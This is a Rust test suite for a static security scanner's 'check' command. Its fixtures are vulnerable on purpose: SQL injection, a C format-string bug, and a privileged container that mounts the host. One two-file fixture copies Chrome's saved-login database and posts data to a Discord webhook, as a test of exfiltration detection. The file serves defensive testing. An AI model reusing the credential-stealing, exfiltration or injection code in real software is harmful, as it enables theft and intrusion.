//! `assay check`, as a person and as a program uses it.

use crate::{
    common::Project,
    history::{RULE, shown},
};

const INJECTION: &str =
    "import sqlite3\n\ndef find(name):\n    db = sqlite3.connect('x.db')\n    db.execute(\"SELECT * FROM t WHERE n = '\" + name + \"'\")\n";
const BOUND: &str =
    "import sqlite3\n\ndef find(name):\n    db = sqlite3.connect('x.db')\n    db.execute('SELECT * FROM t WHERE n = ?', (name,))\n";

#[test]
fn findings_end_in_1_with_the_path_and_none_in_0() {
    let project = Project::with_files(&[("bad.py", INJECTION), ("good.py", BOUND)]);
    project.run(&["check", "src/bad.py"]).failed(1, &["src/bad.py:5", "CWE-89", "name"]);
    let good = project.run(&["check", "src/good.py"]).ok();
    assert!(!good.out.contains("secure"), "{}", good.out);
    project.run(&["check", "src/good.py", "--evidence"]).failed(0, &["evidence", "CWE-89"]);
    project.run(&["check", "src/bad.py", "--fail-on", "never"]).ok();
}

#[test]
fn the_machine_answer_tells_evidence_from_silence() {
    let project = Project::new();
    let verdict =
        |code: &str| project.run_with_input(&["check", "--stdin", "--language", "python", "--json"], code).json()["verdict"].clone();
    assert_eq!(verdict(INJECTION), "flagged");
    assert_eq!(verdict(BOUND), "evidenced");
    assert_eq!(verdict("def add(a, b):\n    return a + b\n"), "no_finding");
    assert_eq!(verdict("def add(a, b:\n    return ((a + \n"), "unjudged");
}

#[test]
fn nothing_is_no_answer_on_standard_input() {
    let project = Project::with_files(&[("empty.py", "")]);
    let run = |code: &str| project.run_with_input(&["check", "--stdin", "--language", "python", "--json", "--fail-unjudged"], code);
    for (code, reason) in
        [("", "empty"), ("# later\n", "empty"), ("pass\n", "empty"), ("def f(:\n", "does-not-parse"), ("return x\n", "does-not-parse")]
    {
        let answer = run(code).failed(1, &[]).json();
        assert_eq!(answer["verdict"], "unjudged", "{code:?}");
        assert_eq!(answer["files"][0]["unjudged"][0]["reason"], reason, "{code:?}");
    }
    assert_eq!(run(BOUND).ok().json()["verdict"], "evidenced");
    // A file of a folder may be empty.
    project.run(&["check", "src/empty.py", "--fail-unjudged"]).ok();
}

#[test]
fn parameters_are_trusted_where_the_user_says_so() {
    let project = Project::with_files(&[("bad.py", INJECTION)]);
    let ran = project.run(&["check", "src/bad.py", "--closed-world", "--rule", "python/cwe-089"]).ok();
    assert!(!ran.out.contains("critical"), "{}", ran.out);
}

#[test]
fn a_gate_can_refuse_what_was_not_judged() {
    let project = Project::with_files(&[("broken.py", "def add(a, b:\n    return ((a + \n"), ("good.py", BOUND)]);
    project.run(&["check", "src/broken.py"]).ok();
    project.run(&["check", "src/broken.py", "--fail-unjudged"]).failed(1, &["unjudged"]);
    project.run(&["check", "src/good.py", "--fail-unjudged"]).ok();
}

#[test]
fn one_danger_that_two_rules_see_is_shown_once_with_its_fix() {
    let code = "#include <stdio.h>\nint main(int argc, char **argv) {\n  printf(argv[1]);\n  return 0;\n}\n";
    let project = Project::with_files(&[("a.c", code)]);
    let ran = project.run(&["check", "src/a.c"]);
    assert_eq!(ran.out.matches("a.c:3:").count(), 1, "{}", ran.out);
    assert!(ran.out.contains("   fix: "), "{}", ran.out);
}

#[test]
fn sarif_has_rules_places_and_code_flows() {
    let project = Project::with_files(&[("bad.py", INJECTION)]);
    let sarif = project.run(&["check", "src", "--format", "sarif"]).json();
    let run = &sarif["runs"][0];
    let result = run["results"].as_array().expect("results").iter().find(|r| r["ruleId"].as_str().is_some_and(|id| id.contains("cwe-089")));
    let result = result.expect("the injection is there");
    assert_eq!(result["locations"][0]["physicalLocation"]["region"]["startLine"], 5);
    assert!(result["codeFlows"][0]["threadFlows"][0]["locations"].as_array().is_some_and(|l| l.len() >= 2), "{result}");
    let index = result["ruleIndex"].as_u64().expect("index") as usize;
    assert_eq!(run["tool"]["driver"]["rules"][index]["id"], result["ruleId"]);
}

#[test]
fn an_ignore_with_a_reason_is_obeyed_and_reported() {
    let ignored = INJECTION.replace(" + \"'\")\n", " + \"'\")  # assay: ignore cwe-089-sql-concat: names are checked by the caller\n");
    let project = Project::with_files(&[("a.py", &ignored)]);
    let ran = project.run(&["check", "src/a.py"]).ok();
    assert!(ran.out.contains("names are checked by the caller"), "{}", ran.out);
    assert!(!ran.err.contains("covers no finding"), "{}", ran.err);
}

#[test]
fn an_ignore_that_covers_nothing_is_named() {
    let misspelt = INJECTION.replace(" + \"'\")\n", " + \"'\")  # assay: ignore cwe-089-sql-conct: names are checked by the caller\n");
    let project = Project::with_files(&[("a.py", &misspelt)]);
    project.run(&["check", "src/a.py"]).failed(1, &["a.py:5", "cwe-089-sql-conct", "covers no finding"]);
}

#[test]
fn an_ignored_finding_is_a_verdict_of_its_own_and_standard_input_excuses_nothing() {
    let ignored = INJECTION.replace(" + \"'\")\n", " + \"'\")  # assay: ignore cwe-089-sql-concat: trust me\n");
    let project = Project::with_files(&[("a.py", &ignored)]);
    assert_eq!(project.run(&["check", "src/a.py", "--json"]).ok().json()["verdict"], "ignored");
    project.run(&["check", "src/a.py", "--no-ignores"]).failed(1, &["a.py:5"]);
    let judged =
        |more: &[&str]| project.run_with_input(&[&["check", "--stdin", "--language", "python", "--json"], more].concat(), &ignored);
    assert_eq!(judged(&[]).failed(1, &[]).json()["verdict"], "flagged");
    assert_eq!(judged(&["--ignores"]).ok().json()["verdict"], "ignored");
}

#[test]
fn sarif_shows_evidence_and_what_was_not_judged_as_results_of_their_own_kinds() {
    let broken = "def add(a, b:\n    return ((a + \n";
    let outlived = "x = 1  # assay: ignore cwe-089-sql-concat: was one\n# assay: ignore\n";
    let project = Project::with_files(&[("good.py", BOUND), ("broken.py", broken), ("outlived.py", outlived)]);
    let run = |more: &[&str]| {
        let sarif = project.run(&[&["check", "src", "--format", "sarif"], more].concat()).json();
        let list = |list: &serde_json::Value| list.as_array().expect("list").clone();
        (list(&sarif["runs"][0]["results"]), list(&sarif["runs"][0]["invocations"][0]["toolExecutionNotifications"]))
    };
    let (results, notes) = run(&[]);
    assert!(results.is_empty(), "{results:?}");
    let of = |file: &str| {
        let uri = |note: &&serde_json::Value| note["locations"][0]["physicalLocation"]["artifactLocation"]["uri"] == format!("src/{file}");
        notes.iter().filter(uri).count()
    };
    assert!(of("broken.py") >= 1 && of("outlived.py") == 2, "{notes:?}");
    let (results, _) = run(&["--evidence", "--unjudged"]);
    let kinds = |kind: &str| results.iter().filter(|one| one["kind"] == kind && one["level"] == "none").count();
    assert!(kinds("pass") >= 1 && kinds("open") >= 1 && kinds("pass") + kinds("open") == results.len(), "{results:?}");
    let answer = project.run(&["check", "src/outlived.py", "--json"]).json();
    assert_eq!(answer["files"][0]["idle_ignores"].as_array().map(Vec::len), Some(2), "{answer}");
}

#[test]
fn the_machine_answer_has_columns() {
    let project = Project::with_files(&[("bad.py", INJECTION)]);
    let finding = project.run(&["check", "src/bad.py", "--rule", "python/cwe-089", "--json"]).json()["files"][0]["findings"][0].clone();
    let span = &finding["span"];
    assert!(span["line"] == 5 && span["column"].as_u64() >= Some(5) && span["end_column"].is_u64(), "{finding}");
    assert!(finding["path"][0]["span"]["column"].is_u64(), "{finding}");
}

#[test]
fn own_rules_are_proved_before_they_judge_and_are_told_where_they_replace_built_in_ones() {
    let project = Project::with_files(&[("a.py", "def f(file):\n    file.close()\n")]);
    let own = |folder: &str, secure: &str| {
        let number = folder.split('-').nth(1).unwrap_or_default().trim_start_matches('0');
        project.write(&format!("{folder}/rule.toml"), &RULE.replace("489", number));
        project.write(&format!("{folder}/vulnerable.py"), &shown("close", "finding"));
        project.write(&format!("{folder}/secure.py"), &shown(secure, "evidence"));
    };
    project.write("mine/README", "ours\n");
    own("mine/python/cwe-489-closing", "commit");
    let ran = project.run(&["check", "src", "--rules", "mine"]).failed(1, &["python/cwe-489-closing"]);
    assert!(!ran.err.contains("in place of"), "{}", ran.err);
    own("other/python/cwe-078-shell-command", "commit");
    project
        .run(&["check", "src", "--rules", "other"])
        .failed(1, &["python/cwe-078-shell-command of other stands in place of the built-in"]);
    let answer = project.run(&["check", "src", "--rules", "other", "--json"]).json();
    assert_eq!(answer["replaced"].as_array().map(Vec::len), Some(1), "{answer}");
    own("mine/python/cwe-489-closing", "rollback");
    let lines = ["python/cwe-489-closing: secure.py:6: nothing where evidence is marked", "mine"];
    project.run(&["rules", "test", "python/cwe-489-closing", "--rules", "mine"]).failed(1, &lines[..1]);
    project.run(&["check", "src", "--rules", "mine"]).failed(2, &lines);
}

#[test]
fn settings_and_notes_are_out_of_scope_and_do_not_make_a_folder_unjudged() {
    let other = [("app.ini", "[a]\nb = 1\n"), ("mkdocs.yml", "site_name: a\n"), ("README.md", "# A\n")];
    let project = Project::with_files(&[&[("good.py", BOUND)][..], &other[..]].concat());
    let answer = project.run(&["check", "src", "--fail-unjudged", "--json"]).ok().json();
    assert_eq!((&answer["verdict"], &answer["counts"]["out_of_scope"]), (&"evidenced".into(), &3.into()), "{answer}");
    project.run(&["check", "src"]).failed(0, &["3 files out of scope of the rules"]);
}

#[test]
fn a_rule_is_scaffolded_in_the_form_of_its_pack() {
    let project = Project::new();
    project.run(&["rules", "new", "dockerfile", "250", "a-danger", "--rules", "mine"]).ok();
    project.run(&["rules", "test", "dockerfile/cwe-250-a-danger", "--rules", "mine"]).failed(2, &["rule.toml:6", "`why`", "scaffold"]);
    project.run(&["rules", "new", "yaml", "250", "x", "--rules", "mine"]).failed(2, &["not a pack"]);
    project.run(&["rules", "new", "python", "999999", "x", "--rules", "mine"]).failed(2, &["no CWE number"]);
    project.run(&["rules", "new", "python", "CWE-89", "b-danger", "--rules", "mine"]).failed(0, &["python/cwe-089-b-danger"]);
    project.run(&["rules", "new", "python", "eighty", "x", "--rules", "mine"]).failed(2, &["CWE-89"]);
    project.run(&["rules", "new", "python", "89", "x"]).failed(2, &["--rules my-rules"]);
}

#[test]
fn what_is_asked_twice_or_both_ways_is_told() {
    let project = Project::with_files(&[("a.py", INJECTION), (".gitignore", "old.py\n"), ("old.py", INJECTION)]);
    let counts =
        |args: &[&str]| project.run(&[&["check", "--json", "--fail-on", "never"], args].concat()).ok().json()["counts"]["files"].clone();
    assert_eq!(counts(&["src/a.py", "./src/a.py", "src/a.py"]), 1);
    // What is ignored is passed over in a folder, whether it is a repository's or not, and read where it is named.
    assert_eq!((counts(&["src"]), counts(&["src/a.py", "src/old.py"])), (1.into(), 2.into()));
    project.run(&["check", "src", "--json", "--format", "sarif"]).failed(2, &["give one of them"]);
    project.run(&["check", "src/a.py", "--stdin", "--language", "python"]).failed(2, &["--stdin"]);
}

#[test]
fn an_ignore_in_a_text_is_none() {
    let hidden = INJECTION.replace("    db.execute", "    note = \"assay: ignore cwe-089-sql-concat: y\"\n    db.execute");
    Project::with_files(&[("a.py", &hidden)]).run(&["check", "src/a.py"]).failed(1, &["a.py:6"]);
}

#[test]
fn a_rule_that_nobody_knows_is_refused() {
    let project = Project::with_files(&[("bad.py", INJECTION)]);
    project.run(&["check", "src/bad.py", "--rule", "nosuch"]).failed(2, &["nosuch", "rules list"]);
    project.run(&["check", "src/bad.py", "--rule", "python/cwe-089"]).failed(1, &["bad.py:5"]);
    project.run(&["check", "src/bad.py", "--rule", "secrets/"]).ok();
}

#[test]
fn scripts_are_known_by_their_first_line_and_what_is_in_no_known_language_is_counted() {
    let project = Project::with_files(&[("good.py", BOUND), ("hook", "#!/bin/sh\necho done\n"), ("LICENCE", "as you like\n")]);
    let answer = project.run(&["check", "src", "--json"]).json();
    let languages: Vec<_> = answer["files"].as_array().expect("files").iter().map(|file| file["language"].clone()).collect();
    assert_eq!(languages, ["python", "bash"]);
    assert_eq!(answer["unknown"][0], "src/LICENCE");
    assert_eq!(answer["counts"]["unknown"], 1);
    project.run(&["check", "src", "--fail-on", "never"]).failed(0, &["1 texts in no known language"]);
}

#[test]
fn what_cannot_run_ends_in_2_and_says_the_remedy() {
    let project = Project::with_files(&[("notes.unknown", "hello")]);
    project.run(&["check", "nowhere"]).failed(2, &["nowhere", "exists"]);
    project.run(&["check", "src/notes.unknown"]).failed(2, &["--language"]);
    project.run(&["check", "--stdin", "--language", "klingon"]).failed(2, &["klingon", "python"]);
    project.run(&["check", "src"]).failed(2, &["nothing to judge"]);
}

#[test]
fn hostile_files_are_reported_not_judged_and_never_panic() {
    let project = Project::with_files(&[("deep.py", &"(".repeat(50_000)), ("deep.js", &"[".repeat(50_000)), ("nul.py", "a = '\0'\n")]);
    let latin = project.path("src/latin.py");
    std::fs::write(latin, b"# caf\xe9\n").expect("file");
    let ran = project.run(&["check", "src", "--json"]);
    assert!(matches!(ran.code, Some(0 | 1)), "{:?}\n{}", ran.code, ran.err);
    let answer = ran.json();
    assert_eq!(answer["not_judged"][0]["reason"], "not UTF-8");
    assert!(!ran.err.contains("panicked"), "{}", ran.err);
}

#[test]
fn the_same_answer_at_any_thread_count() {
    let files: Vec<(String, String)> = (0..40).map(|n| (format!("f{n}.py"), crate::common::sample(n))).collect();
    let files: Vec<(&str, &str)> = files.iter().map(|(a, b)| (a.as_str(), b.as_str())).collect();
    let project = Project::with_files(&files);
    let one = project.run(&["check", "src", "--json", "--evidence", "--threads", "1"]).out;
    assert_eq!(one, project.run(&["check", "src", "--json", "--evidence", "--threads", "4"]).out);
}

#[test]
fn the_table_of_coverage_is_what_the_rules_say() {
    let written = include_str!("../validators/COVERAGE.md");
    assert_eq!(Project::new().run(&["rules", "coverage"]).ok().out, written, "run `assay rules coverage > validators/COVERAGE.md`");
}

#[test]
fn checks_of_memory_are_shown_like_rules() {
    let project = Project::new();
    project.run(&["rules", "show", "c/cwe-416-use-after-free"]).failed(0, &["CWE-416", "Why: ", "Fix: "]);
    project.run(&["rules", "test", "c/cwe-416-use-after-free"]).failed(2, &["no fixtures"]);
}

#[test]
fn every_embedded_rule_is_proved() {
    Project::new().run(&["rules", "test"]).failed(0, &["0 failed", "checks of memory have no fixtures"]);
}

#[test]
fn the_text_of_a_secret_is_shown_in_no_form_of_report() {
    // Assembled here, so that no text of this file looks like a secret.
    let secret: String = ["q7Vt", "2Lm9", "XcRb", "4KpZ", "8HsN", "3WdJ"].concat();
    let code = format!(
        "import sqlite3\n\nPASSWORD = \"{secret}\"\n\ndef f(db, name):\n    db.execute(\"SELECT '{secret}' WHERE n = '\" + name + \"'\")\n"
    );
    let project = Project::with_files(&[("a.py", &code), (".env", &format!("API_KEY={secret}\n"))]);
    for format in ["text", "json", "sarif"] {
        let ran = project.run(&["check", "src", "--format", format, "--evidence", "--unjudged", "--fail-on", "never"]).ok();
        assert!(ran.out.contains("secrets/"), "{}", ran.out);
        assert!(!ran.out.contains(&secret[..8]) && !ran.err.contains(&secret[..8]), "{format}: {}", ran.out);
    }
}

#[test]
fn a_list_of_dependencies_that_advisories_were_matched_to_is_judged_and_one_without_them_is_not() {
    let advisory = r#"{"id":"GHSA-0000-0000-0001","summary":"reads too much","affected":[{"package":{"name":"parcelkit","ecosystem":"PyPI"},"ranges":[{"type":"ECOSYSTEM","events":[{"introduced":"0"},{"fixed":"2.0"}]}]}]}"#;
    let project = Project::with_files(&[("requirements.txt", "parcelkit==2.1\n"), ("old/requirements.txt", "parcelkit==1.4\n")]);
    project.write("advisories/a.json", advisory);
    let answer = |args: &[&str]| project.run(args).json()["verdict"].clone();
    assert_eq!(answer(&["check", "src/requirements.txt", "--json"]), "unjudged");
    assert_eq!(answer(&["check", "src/requirements.txt", "--advisories", "advisories", "--json"]), "no_finding");
    project.run(&["check", "src/old", "--advisories", "advisories"]).failed(1, &["vulnerable-dependency", "2.0"]);
}

/// What one folder does says nothing of another that is named beside it; below one folder that is named, files are of one hand.
#[test]
fn folders_that_are_named_are_a_package_each() {
    let project = Project::new();
    project.write(
        "both/one/keep.py",
        "import os\nimport shutil\n\n\ndef logins(target):\n    source = os.path.expanduser('~/.config/google-chrome/Default/Login Data')\n    shutil.copy(source, target)\n    return target\n",
    );
    project.write(
        "both/two/tell.py",
        "import requests\n\n\ndef report(data):\n    requests.post('https://discord.com/api/webhooks/123456/abcdef', json=data)\n",
    );
    project.run(&["check", "both"]).failed(1, &["malice/exfiltration"]);
    let apart = project.run(&["check", "both/one", "both/two/"]);
    assert!(!apart.out.contains("malice/"), "{}", apart.out);
    assert!(apart.out.contains("2 files judged"), "{}", apart.out);
}

#[test]
fn every_reason_of_a_service_is_told() {
    let image = "nginx@sha256:4bf5122f344554c53bde2ebb8cd2b7e3d1600ad631c385a5d7cce23c7785459a";
    let compose = format!(
        "services:\n  a:\n    image: {image}\n    privileged: true\n    cap_add: [SYS_ADMIN]\n    volumes:\n      - /var/run/docker.sock:/var/run/docker.sock\n      - /:/host\n"
    );
    let project = Project::with_files(&[("compose.yml", &compose)]);
    project.run(&["check", "src"]).failed(1, &["capability", "privileged", "engine-socket", "host-files"]);
}
